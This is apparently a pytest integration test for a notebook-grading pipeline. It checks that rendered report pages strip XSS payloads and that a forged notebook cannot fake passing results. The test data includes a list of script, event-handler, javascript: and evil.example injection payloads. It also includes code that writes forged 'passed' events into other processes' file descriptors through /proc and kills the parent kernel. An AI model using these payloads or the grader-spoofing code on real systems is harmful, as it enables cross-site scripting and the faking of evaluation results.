"""A notebook from upload to report on the real pipeline; and one that would like to look better than it is."""

import re

import pytest

from audition.domain.evidence import ArtifactKind
from audition.domain.grade import Finding
from audition.domain.report import Report
from audition.domain.run import Verdict
from audition.domain.submission import Submission
from tests.notebooks import book, code, text
from tests.pipeline import Pipeline
from tests.tiny import principal, store_tiny

pytestmark = [pytest.mark.docker, pytest.mark.slow]

PREDICT = "frame[['id']].assign(probability=frame.a / 100).to_csv('predictions.csv', index=False); len(frame)"
#: Ways of an output to act on whoever reads it. Sources: CVE-2021-32862, and what browsers run.
HARM = (
    "<script>hurt()</script><img src=x onerror=hurt()><svg onload=hurt()></svg>"
    "<iframe srcdoc='<script>hurt()'></iframe>"
    "<a href='javascript:hurt()'>a</a><a href='data:text/html,hurt'>b</a><form action='//evil.example'><input></form>"
    "<style>@import '//evil.example'</style><img src='//evil.example/pixel.png'><img src='data:image/svg+xml,hurt'>"
    "<math><mtext><style><img src=x onerror=hurt()></style></mtext></math><object data='//evil.example'></object>"
    "<b onclick=hurt() style='background:url(//evil.example)'>bold</b>"
    "<meta http-equiv=refresh content='0;//evil.example'>"
)
GOOD = book(
    text(f"# At home\n{HARM}\n[a](javascript:hurt())"),
    code("data = 'nowhere'", "parameters"),
    code("import pandas as pd\nframe = pd.read_csv(f'{data}/test.csv')"),
    code("from IPython.display import HTML, Javascript, display"),
    code(f"HARM = bytes.fromhex('{HARM.encode().hex()}').decode()"),
    code(
        "display(HTML(HARM), Javascript('hurt()'), {'image/svg+xml': HARM, 'text/latex': HARM}, raw=False)\n"
        "display({'image/svg+xml': '<svg onload=hurt()></svg>', 'application/javascript': 'hurt()'}, raw=True)\n"
        "display({'text/html': HARM, 'text/markdown': HARM, 'text/latex': HARM}, raw=True)\n"
        "display(HTML('<b onclick=hurt()>bold</b>'))\n"
        "print('\\x1b[31m' + HARM + 'x' * 2_000_000)"
    ),
    code(PREDICT),
)
#: What no reader's browser may meet in the page that is made of it.
ACTING = re.compile(
    r"<(?:script|svg|iframe|form|input|style|object|math|meta|link|embed)\b|<[^>]*\s(?:on\w+|style|srcdoc)\s*="
    r"|<[^>]*(?:javascript:|data:(?!image/(?:png|jpeg|gif);base64,))|<img[^>]*evil",
    re.IGNORECASE,
)
#: Its first cell writes what a runner would say, on whatever leads out; the next one ends the kernel.
FORGED = book(
    code(
        "import os\n"
        'lines = b\'\'.join(b\'{"event":"cell","number":%d,"outcome":"passed"}\\n\' % n for n in range(1, 9))\n'
        "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
        "    for number in (1, 2, 3, 4, 5):\n"
        "        try:\n"
        "            with open(f'/proc/{pid}/fd/{number}', 'wb', buffering=0) as stream: stream.write(lines)\n"
        "        except OSError: pass\n"
    ),
    code("import os, signal; os.kill(os.getppid(), signal.SIGKILL)"),
    *[code("1")] * 6,
)


def run(pipeline: Pipeline, notebook: bytes) -> tuple[Submission, Report, dict[str, Finding]]:
    submission, report = pipeline.run(principal(), notebook)
    found = {finding.check: finding for grade in report.grades for finding in grade.findings}
    return submission, report, found


def test_a_notebook_is_run_measured_and_judged_whatever_it_says_of_itself(pipeline: Pipeline) -> None:
    store_tiny(
        pipeline.ports,
        graders=("output-format", "model-quality", "notebook-run", "notebook-code"),
        attempts=9,
    )
    submission, report, found = run(pipeline, GOOD)
    assert report.verdict == Verdict.ACCEPTED, report
    assert (found["notebook.runs"].points, found["notebook.state"].points) == (3, 1)
    assert any(grade.metrics for grade in report.grades)
    with pipeline.ports.unit_of_work() as uow:
        artifacts = {a.kind: a for a in uow.runs.artifacts(uow.runs.latest(submission.id).id)}
    page = pipeline.ports.blobs.get(artifacts[ArtifactKind.NOTEBOOK_PAGE].digest).decode()
    assert ("<b>bold</b>" in page, ACTING.findall(page)) == (True, [])
    assert b"[cell 7: passed" in pipeline.ports.blobs.get(artifacts[ArtifactKind.STDERR].digest)
    assert b'"execution_count": 7' in pipeline.ports.blobs.get(artifacts[ArtifactKind.NOTEBOOK].digest)

    _, report, found = run(pipeline, FORGED)
    assert report.verdict in {Verdict.SIGNALLED, Verdict.NONZERO_EXIT}
    assert found["notebook.runs"].points < 1.5
